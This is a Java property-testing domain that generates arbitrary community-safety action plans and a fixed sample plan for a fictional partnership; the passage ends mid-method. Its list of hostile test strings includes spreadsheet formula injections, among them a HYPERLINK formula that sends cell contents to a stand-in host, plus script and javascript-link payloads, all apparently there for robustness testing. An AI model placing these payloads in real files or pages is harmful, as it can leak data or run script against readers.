package org.csplan.core.testkit;

import static com.google.common.collect.ImmutableList.toImmutableList;

import com.google.common.base.CharMatcher;
import com.google.common.collect.ImmutableList;
import com.google.common.collect.ImmutableMap;
import com.google.common.collect.ImmutableSortedSet;
import com.google.common.collect.Maps;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.time.Month;
import java.util.HashSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.function.Function;
import java.util.regex.Pattern;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Provide;
import net.jqwik.api.Tuple;
import net.jqwik.api.domains.DomainContextBase;
import org.csplan.core.model.Action;
import org.csplan.core.model.ActionId;
import org.csplan.core.model.ActionPlan;
import org.csplan.core.model.Agency;
import org.csplan.core.model.AgencyId;
import org.csplan.core.model.AgencyKind;
import org.csplan.core.model.Aim;
import org.csplan.core.model.AimId;
import org.csplan.core.model.Budget;
import org.csplan.core.model.CheckSetting;
import org.csplan.core.model.Citation;
import org.csplan.core.model.Closure;
import org.csplan.core.model.Colour;
import org.csplan.core.model.Contact;
import org.csplan.core.model.Dependency;
import org.csplan.core.model.Due;
import org.csplan.core.model.ElementId;
import org.csplan.core.model.ElementKind;
import org.csplan.core.model.Field;
import org.csplan.core.model.Figure;
import org.csplan.core.model.Measure;
import org.csplan.core.model.MeasureId;
import org.csplan.core.model.MeasureTier;
import org.csplan.core.model.Milestone;
import org.csplan.core.model.MilestoneId;
import org.csplan.core.model.Move;
import org.csplan.core.model.Note;
import org.csplan.core.model.OwnName;
import org.csplan.core.model.PageSettings;
import org.csplan.core.model.Priority;
import org.csplan.core.model.PriorityId;
import org.csplan.core.model.Progress;
import org.csplan.core.model.Quantity;
import org.csplan.core.model.QuantityParser;
import org.csplan.core.model.Reading;
import org.csplan.core.model.Recurrence;
import org.csplan.core.model.Reporting;
import org.csplan.core.model.Spending;
import org.csplan.core.model.Status;
import org.csplan.core.model.Strand;
import org.csplan.core.model.Term;
import org.csplan.core.model.Timing;
import org.csplan.core.model.Visibility;
import org.csplan.core.model.When;
import org.csplan.core.model.WhenParser;

/**
 * Arbitrary plans for properties: under {@code @Domain(PlanDomain.class)} a parameter {@code @ForAll ActionPlan} is any
 * plan that a file can hold, and {@code @ForAll String} is any text with words in it, hostile ones first.
 *
 * <p>All that a plan can say comes up, most of it now and then. Times and quantities mean what their words say, no
 * status can be taken for a time, and terms can stand between backquotes: such a plan could be written down and read
 * again. {@link #plansByApi()} goes further.
 */
public final class PlanDomain extends DomainContextBase {

    private static final Pattern OF_SEVERAL_TIMES = Pattern.compile("\\b(to|of|start)\\b");

    private static final CharMatcher BLANK = CharMatcher.whitespace().or(CharMatcher.javaIsoControl());

    /** What has broken pages, tables, data or grammars before. */
    private static final ImmutableList<String> HOSTILE = ImmutableList.of(
            "=1+1",
            "=HYPERLINK(\"http://x.test/?\"&A1,\"here\")",
            "+44 20 7946 0000",
            "-5 degrees",
            "@SUM(A1:A9)",
            "＝1＋1",
            "a; =1+1",
            "a;=1+1",
            "a;\"=1+1\"",
            "list:\n- one\n- two",
            "'quoted'",
            "\"quoted\"",
            "“curly” and ‘single’",
            "\"\"\"",
            "”",
            "a, b and \"c\", d",
            "a;b;c",
            "a\tb",
            "one\r\ntwo\rthree\nfour",
            "first paragraph\n\nsecond paragraph",
            "    four blanks first",
            "# not a comment",
            "lead EDC, Police",
            "action x \"y\"",
            "`code` *stress* [link](javascript:alert(1)) ![x](http://x.test/x.png)",
            "<script>alert('x')</script>",
            "</title></style></textarea><!-- ]]> -->",
            "&amp; &lt; &#x27; &notin;",
            "{{x}} ${x} %s \\n \\u0000 \\",
            "null",
            "undefined",
            "0",
            "007",
            "1e9",
            "1-2",
            "Mar-20",
            "TRUE",
            "£12,500 – 75% of 5.2‰",
            "İstanbul ışık IĞDIR ß ŉ",
            "e\u0301 \u00C5 \u212B",
            "עברית العربية \u202Ereversed\u202C",
            "日本語 한국어 ไทย",
            "👮🏽‍♀️ 🇬🇧 𝒜",
            "\uFEFFmark",
            "zero\u200Bwidth\u00ADsoft\u00A0hard",
            "line\u2028separator\u2029paragraph",
            "a very long text, ".repeat(200) + "ended");

    /** The file of the picture that plans here have, which is there for whoever asks. */
    public static final String LOGO = "pictures/logo.png";

    private static final ImmutableList<String> RULES =
            ImmutableList.of("repeated-update", "reading-outside-period", "different-unit", "unclear-date");

    /** What reads like a word of the language, a number or a time, but may be an id. */
    private static final ImmutableList<String> UNUSUAL_IDS = ImmutableList.of(
            "1",
            "1.2",
            "E",
            "E3",
            "2019-09-30",
            "Q2",
            "done",
            "lead",
            "measure",
            "plan",
            "for",
            "at",
            "by",
            "to",
            "tbc",
            "-",
            "-5",
            ".",
            "_",
            "street-drinking",
            "2019-burglary",
            "Ärzte",
            "e\u0301",
            "𝒜",
            "日本",
            "constructor",
            "__proto__",
            "null");

    private static final ImmutableList<String> UNITS = ImmutableList.of(
            "",
            "%",
            "visits",
            "per 1,000 households",
            "people over 65",
            "young people's sessions",
            "calls by phone",
            "\"quoted\" ones",
            "=cells",
            "–",
            "kW·h",
            "visits plus",
            "visits and",
            "visits or more",
            "talks (10 a ward)",
            "green visits");

    private static final ImmutableList<String> TIMES = ImmutableList.of(
            "2019-09-30",
            "30 September 2019",
            "29 February 2020",
            "March 2020",
            "Apr-25",
            "Q2 2019/20",
            "Q3 24/25",
            "2019/20",
            "2019/20 to 2021/22",
            "2024",
            "2024 to 2028",
            "summer 2019",
            "early 2027",
            "end of 2022");

    private static final ImmutableMap<Month, ImmutableList<When>> TIMES_BY_YEAR_START = Maps.toMap(
            List.of(Month.values()),
            month -> TIMES.stream()
                    .map(words -> WhenParser.parse(words, month).orElseThrow())
                    .collect(toImmutableList()));

    @Provide
    Arbitrary<ActionPlan> plan() {
        return plans();
    }

    @Provide
    Arbitrary<String> text() {
        return texts();
    }

    /** Plans that a file can hold. */
    public static Arbitrary<ActionPlan> plans() {
        Arbitrary<String> terms = texts().filter(term -> term.indexOf('`') < 0);
        Arbitrary<String> statusWords = Arbitraries.oneOf(
                Arbitraries.of("green", "done", "late", "monitoring", "on-hold"),
                ids().filter(word -> !looksLikeATime(word)));
        return new Plans(
                        ids(),
                        texts(),
                        terms,
                        statusWords,
                        Arbitraries.of(UNITS),
                        numberedTimes(),
                        Arbitraries.of(Measure.Goal.AT_LEAST, Measure.Goal.AT_MOST))
                .plans();
    }

    /** Plans that only a program can make: with texts that are no Unicode, and words that mean other times. */
    public static Arbitrary<ActionPlan> plansByApi() {
        Arbitrary<String> texts = textsByApi();
        Arbitrary<Within<When>> otherTimes = Combinators.combine(
                        texts, Arbitraries.integers().between(0, 1000))
                .as((words, days) -> ground -> {
                    LocalDate from = LocalDate.of(2019, Month.APRIL, 1).plusDays(days);
                    return new When(from, from.plusDays(days), words);
                });
        return new Plans(
                        ids(),
                        texts,
                        texts,
                        ids(),
                        Arbitraries.oneOf(Arbitraries.of(UNITS), texts),
                        Arbitraries.oneOf(numberedTimes(), otherTimes),
                        Arbitraries.of(Measure.Goal.class))
                .plans();
    }

    /** Plans whose ids, texts, units and times are all {@link Markers}, so that each can be found again. */
    public static Arbitrary<ActionPlan> markedPlans() {
        Arbitrary<String> markers = Markers.any();
        LocalDate day = LocalDate.of(2019, Month.APRIL, 1);
        return new Plans(
                        markers,
                        markers,
                        markers,
                        markers,
                        markers,
                        markers.map(words -> ground -> new When(day, day, words)),
                        Arbitraries.of(Measure.Goal.class))
                .plans();
    }

    private static Arbitrary<Within<When>> numberedTimes() {
        return Arbitraries.integers().between(0, TIMES.size() - 1).map(number -> ground -> ground.time(number));
    }

    /** Whether a status of this word could be taken for a time, or for a part of one. */
    private static boolean looksLikeATime(String word) {
        return isTime(word)
                || TIMES.stream()
                        .anyMatch(time -> List.of(time.split(" ")).contains(word)
                                || isTime(time + " " + word)
                                || isTime(word + " " + time));
    }

    private static boolean isTime(String words) {
        return WhenParser.parse(words, When.USUAL_YEAR_START).toOptional().isPresent();
    }

    /** Texts with at least one visible character and none that a text file had better not hold. */
    public static Arbitrary<String> texts() {
        Arbitrary<String> characters = Arbitraries.strings()
                .ofMaxLength(20)
                .filter(text -> !CharMatcher.javaIsoControl().matchesAnyOf(text) && isPaired(text));
        return texts(characters);
    }

    /** Texts with at least one visible character, control characters and halves of surrogate pairs among them. */
    public static Arbitrary<String> textsByApi() {
        Arbitrary<String> characters = Arbitraries.strings()
                .withChars("a;\n\t\r\0\u001B\u0085\uD83D\uDE00\u2028\uFFFE=\"'")
                .ofMaxLength(8);
        return texts(Arbitraries.oneOf(characters, Arbitraries.strings().ofMaxLength(20)));
    }

    private static Arbitrary<String> texts(Arbitrary<String> characters) {
        Arbitrary<String> hostile = Arbitraries.of(HOSTILE);
        Arbitrary<String> joined = Combinators.combine(hostile, Arbitraries.of("", " ", "; ", "\n"), characters)
                .as((start, middle, end) -> start + middle + end);
        return Arbitraries.oneOf(hostile, characters, joined).filter(text -> !BLANK.matchesAllOf(text));
    }

    /** Ids of every kind: plain ones, and those that look like something else. */
    public static Arbitrary<String> ids() {
        Arbitrary<String> plain = Arbitraries.strings()
                .withCharRange('a', 'z')
                .withChars("ABC019-_.")
                .ofMinLength(1)
                .ofMaxLength(8);
        return Arbitraries.oneOf(plain, Arbitraries.of(UNUSUAL_IDS));
    }

    /** Times in the forms that the plan language knows, for years that start in April. */
    public static Arbitrary<When> times() {
        return Arbitraries.of(TIMES).map(When::of);
    }

    private static boolean isPaired(String text) {
        return text.codePoints().noneMatch(c -> c >= Character.MIN_SURROGATE && c <= Character.MAX_SURROGATE);
    }

    /** A small plan that says everything once or twice, the same each time; for comparing outputs with what was expected. */
    public static ActionPlan samplePlan() {
        AgencyId council = AgencyId.of("EDC");
        AgencyId police = AgencyId.of("Police");
        AgencyId club = AgencyId.of("Exampleton-FC");
        Status waiting = new Status("on-hold", "Waiting for funds", Status.Meaning.PAUSED);
        Status green = Status.of("green").orElseThrow();
        MeasureId walkabouts = MeasureId.of("walkabouts");
        return ActionPlan.builder("exampleton-2019", "Exampleton Community Safety Partnership Action Plan 2019/20")
                .period(When.of("2019/20"))
                .intro("The partnership agreed these **aims**.\n\nThe plan sets out the targets – £ and all.")
                .partnership("Exampleton Community Safety Partnership")
                .area("The district of Exampleton")
                .contact(new Contact("safety@exampleton.example", Visibility.PUBLIC))
                .published(When.of("1 April 2019"))
                .review(When.of("March 2020"))
                .lead(council)
                .reported(new Reporting.Every(Recurrence.Frequency.QUARTERLY))
                .citation(new Citation(
                        Citation.Kind.ASSESSMENT, "Strategic assessment", Optional.of(When.of("November 2018"))))
                .citation(new Citation(Citation.Kind.CONSULTATION, "Residents' survey", Optional.empty()))
                .measure(new Measure.Level(
                        Measure.of("burglary", "Burglary")
                                .as(MeasureTier.OUTCOME)
                                .from("Police crime system")
                                .reported(new Reporting.InQuarters(ImmutableSortedSet.of(2, 4))),
                        Measure.Goal.REDUCE,
                        Optional.of(new Figure.ToBeConfirmed("tbc")),
                        Optional.of(Quantity.of("5.2 per 1,000 households")),
                        Optional.of(Timing.by(When.of("March 2020"))),
                        Optional.of(Quantity.of("5%")),
                        ImmutableList.of(new Measure.LevelTarget(
                                Measure.Goal.AT_MOST,
                                Quantity.of("5.6 per 1,000 households"),
                                Timing.during(When.of("Q2 2019/20"))))))
                .call(ElementKind.PRIORITIES, "Objectives")
                .status(waiting)
                .agency(new Agency(
                        council,
                        "Exampleton District Council",
                        Optional.of(AgencyKind.COUNCIL),
                        Optional.of("https://exampleton.example"),
                        Optional.of(new Contact("01234 567890", Visibility.PUBLIC))))
                .agency(Agency.of("Police", "Exampleshire Constabulary", AgencyKind.POLICE))
                .agency(Agency.of("Exampleton-FC", "Exampleton FC"))
                .aim(new Aim(
                        AimId.of("A"),
                        "To tackle all crime through prevention, detection and prosecution",
                        ImmutableList.of("burglary", "robbery"),
                        ImmutableList.of(new Note("Carried over from 2018/19")),
                        ImmutableList.of(Measure.of("crimes", "All crime").tracked()),
                        ImmutableList.of(new Progress(
                                Optional.of(When.of("2019/20")),
                                Optional.empty(),
                                Optional.of(green),
                                Optional.empty(),
                                ImmutableList.of(new Reading(
                                        MeasureId.of("crimes"),
                                        new Reading.Compared(Quantity.of("4,145"), Quantity.of("4,163")))),
                                Optional.empty(),
                                Visibility.PUBLIC))))
                .aim(Aim.of("B", "To protect vulnerable adults"))
                .priority(new Priority(
                        PriorityId.of("1"),
                        "To establish an effective response to \"knife crime\"",
                        ImmutableList.of(AimId.of("A")),
                        ImmutableList.of(Strand.CRIME, Strand.SERIOUS_VIOLENCE),
                        Optional.of(When.of("2019/20 to 2021/22")),
                        ImmutableList.of(),
                        ImmutableList.of(),
                        ImmutableList.of()))
                .action(Action.builder("street-drinking", "Response to street drinking, begging and \"rough\" nights")
                        .forAim(AimId.of("A"))
                        .forAim(AimId.of("B"))
                        .forPriority(PriorityId.of("1"))
                        .lead(council)
                        .lead(police)
                        .partner(club)
                        .owner("Head of Community Safety")
                        .contact(new Contact("Jo Example, 01234 567891", Visibility.RESTRICTED))
                        .start(When.of("April 2019"))
                        .due(When.of("31 March 2020"))
                        .moved(new Move(When.of("June 2020"), Optional.of("Two posts vacant")))
                        .moved(new Move(When.of("July 2020"), Optional.empty()))
                        .budget(new Budget.Sum(Quantity.of("£5,000"), Optional.of("PCC fund")))
                        .budget(new Budget.Other("In kind"))
                        .spent(Quantity.of("£2,495.50"))
                        .reported(new Reporting.InQuarters(ImmutableSortedSet.of(1, 2)))
                        .milestone(new Milestone(
                                MilestoneId.of("1"),
                                "Patrol routes agreed",
                                Optional.of(new Due.At(When.of("June 2019"))),
                                Optional.of(When.of("14 June 2019")),
                                ImmutableList.of(police),
                                Visibility.PUBLIC))
                        .milestone(new Milestone(
                                MilestoneId.of("1.1"),
                                "Cameras moved",
                                Optional.of(new Due.ToBeConfirmed()),
                                Optional.empty(),
                                ImmutableList.of(),
                                Visibility.RESTRICTED))
                        .risk("Few volunteers")
                        .dependsOn(new Dependency.OnAction(ActionId.of("fund")))
                        .dependsOn(new Dependency.OnText("A grant from the county"))
                        .continues(ActionId.of("street-drinking-2018"))
                        .replaces(ActionId.of("begging-2018"))
                        .tag("city-centre")
                        .tag("night-time")
                        .field(new Field("ward", "Market"))
                        .note(new Note("Agreed with traders:\n\n- leaflets\n- posters"))
                        .note(new Note("=SUM(A1:A9) is what the return said", Visibility.PARTNERS))
                        .measure(Measure.of("asb", "Incidents of anti-social behaviour")
                                .as(MeasureTier.OUTCOME)
                                .statement())
                        .measure(new Measure.Level(
                                Measure.of("begging", "Begging")
                                        .as(MeasureTier.OUTCOME)
                                        .partOf(MeasureId.of("asb")),
                                Measure.Goal.REDUCE,
                                Optional.of(Quantity.of("5.20 per 1,000 households")),
                                Optional.of(Quantity.of("4.75 per 1,000 households")),
                                Optional.of(Timing.by(When.of("March 2020")))))
                        .measure(Measure.of("walkabouts", "Walkabouts in the city centre")
                                .as(MeasureTier.OUTPUT)
                                .ledBy(police)
                                .count(Quantity.of("300 visits"), Timing.during(When.of("2019/20"))))
                        .measure(new Measure.Recurring(
                                Measure.of("surgeries", "Street surgeries"),
                                Recurrence.of(Recurrence.Frequency.WEEKLY),
                                Optional.of(Quantity.of("4 locations")),
                                Optional.empty()))
                        .measure(Measure.of("report", "Report to the board")
                                .deliverable(Timing.by(When.of("October 2019"))))
                        .measure(Measure.of("names", "People named by officers")
                                .visibleTo(Visibility.RESTRICTED)
                                .tracked())
                        .progress(new Progress(
                                Optional.of(When.of("Q1 2019/20")),
                                Optional.empty(),
                                Optional.of(green),
                                Optional.of(new BigDecimal("40")),
                                ImmutableList.of(
                                        new Reading(walkabouts, new Reading.Amount(Quantity.of("64"))),
                                        new Reading(
                                                MeasureId.of("surgeries"),
                                                new Reading.Ratio(Quantity.of("48"), Quantity.of("52")))),
                                Optional.of("Walkabouts under way; one CPW served."),
                                Visibility.PUBLIC))
                        .progress(new Progress(
                                Optional.of(When.of("Q2 2019/20")),
                                Optional.of(police),
                                Optional.of(waiting),
                                Optional.empty(),
                                ImmutableList.of(
                                        new Reading(walkabouts, new Reading.ToDate(Quantity.of("142 visits"))),
                                        new Reading(MeasureId.of("report"), new Reading.Delivered()),
                                        new Reading(MeasureId.of("names"), new Reading.Amount(Quantity.of("7")))),
                                Optional.empty(),
                                Visibility.PUBLIC))
                        .progress(new Progress(
                                Optional.of(When.of("Q2 2019/20")),
                                Optional.of(club),
                                Optional.empty(),
                                Optional.empty(),
                                ImmutableList.of(),
                                Optional.of("Stewards are named in the annex."),
                                Visibility.PARTNERS))
                        .build())
                .action(Action.builder("fund", "-5% on last year's fund: keep what works")
                        .due(new Due.Every(Recurrence.every(Month.NOVEMBER)))
                        .closed(new Closure(When.of("May 2020"), Optional.of("The fund has ended")))
                        .budget(new Budget.Nil())
                        .field(new Field("ward", "All"))
                        .field(new Field("cost-code", "007"))
                        .measure(new Measure.Recurring(
                                Measure.of("fair", "Freshers' fair"),
                                Recurrence.every(Month.NOVEMBER),
                                Optional.empty(),
                                Optional.of(Timing.during(When.of("2019/20 to 2021/22")))))
                        .measure(new Measure.Level(
                                Measure.of("satisfied", "Residents who feel safe"),
                                Measure.Goal.AT_LEAST,
                                Optional.empty(),
                                Optional.of(Quantity.of("75%")),
                                Optional.empty()))
                        .measure(Measure.of("cost", "Costs").count(Quantity.of("£12,500")))
                        .measure(Measure.of("bids", "Bids").count(new Figure.ToBeConfirmed("tbc bids")))
                        .measure(Measure.of("volunteers", "Volunteers").level(Measure.Goal.MAINTAIN))
                        .progress(Progress.of("Bids invited"))
                        .build())
                .action(Action.builder("training", "Train door staff")
                        .due(new Due.Provisionally(When.of("summer 2019")))
                        .done(When.of("3 June 2019"))
                        .build())
                .action(Action.builder("watch", "Watch the bridges at night")
                        .due(new Due.Ongoing())
                        .visibleTo(Visibility.PARTNERS)
                        .build())
                .action(Action.builder("Nothing known yet").build())
                .term(new Term("CPW", "Community Protection Warning"))
                .language("en-GB")
                .page(new PageSettings(
                        Optional.of("Exampleton Council"), Optional.of(LOGO), Optional.of(new Colour(0x0B4654))))
                .check(new CheckSetting(
                        "unclear-date", CheckSetting.Level.OFF, Optional.empty(), Optional.of("We know our dates")))
                .check(new CheckSetting(
                        "repeated-update",
                        CheckSetting.Level.ERROR,
                        Optional.of(ActionId.of("fund")),
                        Optional.empty()))
                .check(new CheckSetting(
                        "different-unit", CheckSetting.Level.INFO, Optional.of(ActionId.of("watch")), Optional.empty()))
                .build();
    }

    /** Makes plans of these ids, texts, terms, status words, units and times. */
    private record Plans(
            Arbitrary<String> ids,
            Arbitrary<String> texts,
            Arbitrary<String> terms,
            Arbitrary<String> statusWords,
            Arbitrary<String> units,
            Arbitrary<Within<When>> times,
            Arbitrary<Measure.Goal> datedGoals) {

        Arbitrary<ActionPlan> plans() {
            // The combinations of what is extreme in each part would outnumber, and take longer than, all other plans.
            return Combinators.combine(
                            Combinators.combine(ids, texts, settings()).as(Heading::new),
                            Arbitraries.frequencyOf(
                                    Tuple.of(2, Arbitraries.just(When.USUAL_YEAR_START)),
                                    Tuple.of(1, Arbitraries.of(Month.class))),
                            statuses().list().ofMaxSize(2),
                            agencies().list().ofMaxSize(4),
                            objectives().list().ofMaxSize(4),
                            actions().list().ofMaxSize(4),
                            stories(),
                            Combinators.combine(terms, texts)
                                    .as(Term::new)
                                    .list()
                                    .ofMaxSize(2))
                    .as(Plans::plan)
                    .withoutEdgeCases();
        }

        private static ActionPlan plan(
                Heading heading,
                Month yearStart,
                List<Status> statuses,
                List<Agency> agencies,
                List<ObjectiveDraft> objectives,
                List<ActionDraft> actions,
                Story story,
                List<Term> terms) {
            ImmutableList<ObjectiveDraft> aims = distinct(objectives, ObjectiveDraft::id).stream()
                    .filter(ObjectiveDraft::isAim)
                    .collect(toImmutableList());
            ImmutableList<ObjectiveDraft> priorities = distinct(objectives, ObjectiveDraft::id).stream()
                    .filter(draft -> !draft.isAim())
                    .collect(toImmutableList());
            Ground ground = new Ground(
                    yearStart,
                    distinct(statuses, Status::word),
                    idsOf(distinct(agencies, Agency::id), Agency::id),
                    idsOf(aims, draft -> AimId.of(draft.id())),
                    idsOf(priorities, draft -> PriorityId.of(draft.id())),
                    idsOf(distinct(actions, ActionDraft::id), ActionDraft::id));
            ActionPlan.Builder plan = ActionPlan.builder(heading.id(), heading.title());
            plan.yearStart(yearStart);
            Scene scene = new Scene(ground, 0, new HashSet<>());
            heading.parts().forEach(part -> part.addTo(plan, scene));
            ground.statuses().forEach(plan::status);
            distinct(agencies, Agency::id).forEach(plan::agency);
            aims.forEach(draft -> plan.aim(draft.aim(ground)));
            priorities.forEach(draft -> plan.priority(draft.priority(ground)));
            distinct(actions, ActionDraft::id).forEach(draft -> plan.action(draft.action(ground)));
            ImmutableList<Measure> measures = Story.measures(story.measures(), ground);
            measures.forEach(plan::measure);
            story.progress(ground, measures, false).forEach(plan::progress);
            distinct(terms, Term::term).forEach(plan::term);
            return plan.build();
        }

        // The plan itself

        private Arbitrary<List<Part<ActionPlan.Builder>>> settings() {
            return Arbitraries.<Part<ActionPlan.Builder>>oneOf(List.of(
                            times.map(when -> (plan, scene) -> plan.period(when.of(scene.ground()))),
                            times.map(when -> (plan, scene) -> plan.published(when.of(scene.ground()))),
                            times.map(when -> (plan, scene) -> plan.review(when.of(scene.ground()))),
                            texts.map(text -> (plan, scene) -> plan.intro(text)),
                            texts.map(text -> (plan, scene) -> plan.partnership(text)),
                            texts.map(text -> (plan, scene) -> plan.area(text)),
                            contacts().map(contact -> (plan, scene) -> plan.contact(contact)),
                            reportings().map(reporting -> (plan, scene) -> plan.reported(reporting)),
                            picks().map(picks ->
                                    (plan, scene) -> scene.picked(scene.ground().agencies(), picks, "agency")
                                            .forEach(plan::lead)),
                            citations().map(citation -> (plan, scene) -> plan.citation(citation.of(scene.ground()))),
                            Combinators.combine(Arbitraries.of(ElementKind.class), texts, texts.optional(0.5))
                                    .as((kind, several, one) -> (plan, scene) -> {
                                        if (scene.isFirst("name", kind)) {
                                            plan.call(kind, new OwnName(several, one));
                                        }
                                    }),
                            Arbitraries.of("en", "cy", "ga", "gd", "en-GB")
                                    .map(language -> (plan, scene) -> plan.language(language)),
                            Combinators.combine(
                                            texts.optional(0.5),
                                            Arbitraries.just(LOGO).optional(0.5),
                                            Arbitraries.integers()
                                                    .between(0, 0xFFFFFF)
                                                    .map(Colour::new)
                                                    .optional(0.5))
                                    .as(PageSettings::new)
                                    .map(page -> (plan, scene) -> plan.page(page)),
                            checkSettings().map(setting -> (plan, scene) -> {
                                CheckSetting check = setting.of(scene.ground());
                                if (scene.isFirst("setting", List.of(check.rule(), check.element()))) {
                                    plan.check(check);
                                }
                            })))
                    .list()
                    .ofMaxSize(5);
        }

        private Arbitrary<Within<CheckSetting>> checkSettings() {
            return Combinators.combine(
                            Arbitraries.of(RULES),
                            Arbitraries.of(CheckSetting.Level.class),
                            Arbitraries.integers().between(0, 100).optional(0.5),
                            texts.optional(0.5))
                    .as((rule, level, pick, because) -> ground -> {
                        ImmutableList<ElementId> elements = ground.elements();
                        // A doubt that counts as an error would make a plan that no file can hold; this one can't come
                        // up.
                        boolean grave = level == CheckSetting.Level.ERROR;
                        return new CheckSetting(
                                grave ? "unclear-subject" : rule,
                                level,
                                pick.filter(number -> !elements.isEmpty())
                                        .map(number -> elements.get(number % elements.size())),
                                because);
                    });
        }

        private Arbitrary<Within<Citation>> citations() {
            return Combinators.combine(Arbitraries.of(Citation.Kind.class), texts, times.optional(0.5))
                    .as((kind, title, when) -> ground -> new Citation(kind, title, when.map(time -> time.of(ground))));
        }

        private Arbitrary<Status> statuses() {
            return Combinators.combine(statusWords, texts, Arbitraries.of(Status.Meaning.class))
                    .as(Status::new);
        }

        private Arbitrary<Agency> agencies() {
            return Combinators.combine(
                            ids.map(AgencyId::of),
                            texts,
                            Arbitraries.of(AgencyKind.class).optional(0.5),
                            texts.optional(0.2),
                            contacts().optional(0.2))
                    .as(Agency::new);
        }

        private Arbitrary<Contact> contacts() {
            return Combinators.combine(texts, visibilities()).as(Contact::new);
        }

        private Arbitrary<ObjectiveDraft> objectives() {
            return Combinators.combine(
                            ids,
                            texts,
                            Arbitraries.of(true, false),
                            texts.list().ofMaxSize(2),
                            picks(),
                            Arbitraries.of(Strand.class).set().ofMaxSize(2),
                            times.optional(0.2),
                            stories())
                    .as(ObjectiveDraft::new);
        }

        // Actions

        private Arbitrary<ActionDraft> actions() {
            return Combinators.combine(
                            ids.map(ActionId::of), texts, parts().list().ofMaxSize(8), stories())
                    .as(ActionDraft::new);
        }

        private Arbitrary<Part<Action.Builder>> parts() {
            return Arbitraries.oneOf(List.of(
                    picks().map(picks -> (action, scene) ->
                            scene.picked(scene.ground().aims(), picks, "aim").forEach(action::forAim)),
                    picks().map(picks ->
                            (action, scene) -> scene.picked(scene.ground().priorities(), picks, "priority")
                                    .forEach(action::forPriority)),
                    picks().map(picks ->
                            (action, scene) -> scene.picked(scene.ground().agencies(), picks, "agency")
                                    .forEach(action::lead)),
                    picks().map(picks ->
                            (action, scene) -> scene.picked(scene.ground().agencies(), picks, "agency")
                                    .forEach(action::partner)),
                    texts.map(text -> (action, scene) -> action.owner(text)),
                    contacts().map(contact -> (action, scene) -> action.contact(contact)),
                    times.map(when -> (action, scene) -> action.start(when.of(scene.ground()))),
                    dues().map(due -> (action, scene) -> action.due(due.of(scene.ground()))),
                    Arbitraries.just((action, scene) -> action.due(new Due.Ongoing())),
                    Combinators.combine(times, texts.optional(0.5))
                            .as((when, because) ->
                                    (action, scene) -> action.moved(new Move(when.of(scene.ground()), because))),
                    texts.optional(0.5)
                            .map(because ->
                                    (action, scene) -> action.moved(new Move(new Due.ToBeConfirmed(), because))),
                    times.map(when -> (action, scene) -> action.done(when.of(scene.ground()))),
                    Combinators.combine(times, texts.optional(0.5))
                            .as((when, because) ->
                                    (action, scene) -> action.closed(new Closure(when.of(scene.ground()), because))),
                    budgets().map(budget -> (action, scene) -> action.budget(budget)),
                    sums().filter(sum -> sum.amount().signum() >= 0).map(sum -> (action, scene) -> action.spent(sum)),
                    reportings().map(reporting -> (action, scene) -> action.reported(reporting)),
                    milestones().map(milestone -> (action, scene) -> {
                        Milestone step = milestone.of(scene.ground());
                        if (scene.isFirst("milestone", step.id())) {
                            action.milestone(step);
                        }
                    }),
                    texts.map(text -> (action, scene) -> action.risk(text)),
                    texts.map(text -> (action, scene) -> action.dependsOn(new Dependency.OnText(text))),
                    // Only on those further up, so that none waits for itself.
                    picks().map(picks -> (action, scene) -> scene.picked(scene.actionsAbove(), picks, "dependency")
                            .forEach(other -> action.dependsOn(new Dependency.OnAction(other)))),
                    picks().map(picks ->
                            (action, scene) -> scene.picked(scene.ground().actions(), picks, "continued")
                                    .forEach(action::continues)),
                    ids.map(id -> (action, scene) -> {
                        if (scene.isFirst("replaced", id)) {
                            action.replaces(ActionId.of(id));
                        }
                    }),
                    ids.map(tag -> (action, scene) -> {
                        if (scene.isFirst("tag", tag)) {
                            action.tag(tag);
                        }
                    }),
                    Combinators.combine(ids, texts).as(Field::new).map(field -> (action, scene) -> {
                        if (scene.isFirst("field", field.name())) {
                            action.field(field);
                        }
                    }),
                    visibilities().map(audience -> (action, scene) -> action.visibleTo(audience))));
        }

        /** Whatever a milestone can have as well: not what is ongoing. */
        private Arbitrary<Within<Due>> dues() {
            return Arbitraries.oneOf(
                    times.map(when -> ground -> new Due.At(when.of(ground))),
                    times.map(when -> ground -> new Due.Provisionally(when.of(ground))),
                    recurrences().map(recurrence -> ground -> new Due.Every(recurrence)),
                    Arbitraries.just(ground -> new Due.ToBeConfirmed()));
        }

        private Arbitrary<Within<Milestone>> milestones() {
            return Combinators.combine(
                            Arbitraries.oneOf(ids, Arbitraries.of("1", "1.1", "1.1.2", "2")),
                            texts,
                            dues().optional(0.7),
                            times.optional(0.3),
                            picks(),
                            visibilities())
                    .as((id, text, due, done, leads, visibility) -> ground -> new Milestone(
                            MilestoneId.of(id),
                            text,
                            due.map(when -> when.of(ground)),
                            done.map(when -> when.of(ground)),
                            picked(ground.agencies(), leads),
                            visibility));
        }

        private Arbitrary<Budget> budgets() {
            return Arbitraries.oneOf(
                    Combinators.combine(sums(), texts.optional(0.5)).as(Budget.Sum::new),
                    Arbitraries.just(new Budget.Nil()),
                    texts.map(Budget.Other::new));
        }

        private Arbitrary<Quantity> sums() {
            return Arbitraries.of("£5,000", "£0", "£2,495.50", "€10", "$1.50", "-£5", "£12,500 a year")
                    .map(Quantity::of);
        }

        // What aims, priorities and actions have

        private Arbitrary<Story> stories() {
            return Combinators.combine(
                            Combinators.combine(texts, visibilities())
                                    .as(Note::new)
                                    .list()
                                    .ofMaxSize(2),
                            measures().list().ofMaxSize(3),
                            entries().list().ofMaxSize(3))
                    .as(Story::new);
        }

        private Arbitrary<Within<Measure>> measures() {
            Arbitrary<Within<Measure.About>> abouts = Combinators.combine(
                            ids.map(MeasureId::of),
                            Arbitraries.of(MeasureTier.class).optional(0.5),
                            texts,
                            texts.optional(0.2),
                            reportings().optional(0.2),
                            picks(),
                            visibilities())
                    .as((id, tier, text, source, reporting, leads, visibility) -> ground -> new Measure.About(
                            id,
                            tier,
                            text,
                            source,
                            reporting,
                            picked(ground.agencies(), leads),
                            Optional.empty(),
                            visibility));
            return Combinators.combine(abouts, yardsticks())
                    .as((about, yardstick) -> ground -> yardstick.on(about.of(ground), ground));
        }

        private Arbitrary<Yardstick> yardsticks() {
            return Arbitraries.oneOf(
                    Arbitraries.of((about, ground) -> about.statement(), (about, ground) -> about.tracked()),
                    counts(),
                    levels(),
                    Combinators.combine(
                                    recurrences(),
                                    figures().optional(0.5),
